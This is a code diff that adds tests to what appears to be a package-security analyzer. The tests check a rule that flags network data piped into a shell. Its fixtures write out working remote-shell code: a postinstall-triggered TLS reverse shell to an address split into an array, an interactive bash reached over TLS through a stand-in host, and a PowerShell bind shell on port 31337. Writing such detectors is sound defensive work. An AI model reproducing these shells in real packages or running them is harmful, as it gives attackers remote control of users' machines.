@@ -1320,3 +1320,63 @@ jobs:
     expect(r.capabilities.network.makes_requests).toBe(false);
   });
 });
+
+describe("what a connection receives fed to a shell's standard input", () => {
+  const flowRule = (files: Record<string, string>) =>
+    analyzeSource(files)
+      .evidence.filter((f) => f.rule === 'js.exec-network-data')
+      .map((f) => f.file);
+  it('a TLS connection from a helper file piped into exec("/bin/bash"), the address joined from an array', () => {
+    const files = {
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'lib/link.js': `const tls = require('tls');
+module.exports = (h, p) => tls.connect({ host: h, port: p, rejectUnauthorized: false });`,
+      'index.js': `const open = require('./lib/link'); const { exec } = require('child_process');
+const cfg = { h: ['198', '51', '100', '7'].join('.'), p: 8443 };
+const s = open(cfg.h, cfg.p);
+const proc = exec('/bin/bash');
+s.on('data', (chunk) => { proc.stdin.write(chunk); });
+proc.stdout.on('data', (o) => s.write(o));`,
+    };
+    expect(flowRule(files)).toEqual(['index.js']);
+    expect(risk(files)).toBe('critical');
+  });
+  it('the shell and its flags from a configuration object, the pipe inside the connect callback', () => {
+    expect(
+      flowRule({
+        'package.json': pkg(),
+        'index.js': `const tls = require('tls'); const { spawn } = require('child_process');
+function link(ep) {
+  const s = tls.connect({ host: ep.host, port: ep.port }, () => {
+    const [cmd, args] = ep.shell;
+    const p = spawn(cmd, args);
+    s.pipe(p.stdin);
+  });
+}
+link({ host: 'logs.example', port: 8443, shell: ['/bin/bash', ['-i']] });`,
+      }),
+    ).toEqual(['index.js']);
+  });
+  it('a TCP server feeding each connection to PowerShell (a bind shell)', () => {
+    expect(
+      flowRule({
+        'package.json': pkg(),
+        'index.js': `const net = require('net'); const cp = require('child_process');
+net.createServer((conn) => { const p = cp.spawn('powershell.exe', ['-NoLogo']); conn.pipe(p.stdin); }).listen(31337);`,
+      }),
+    ).toEqual(['index.js']);
+  });
+  it('a shell given a script file, or fed text the package wrote, is not fed from the network', () => {
+    expect(
+      flowRule({
+        'package.json': pkg(),
+        'index.js': `const net = require('net'); const { spawn } = require('child_process');
+const sock = net.connect(9000, 'localhost');
+const sh = spawn('bash', ['./scripts/build.sh']);
+sock.pipe(sh.stdin);
+const py = spawn('python3', []);
+py.stdin.write('print(1)\\n');`,
+      }),
+    ).toEqual([]);
+  });
+});
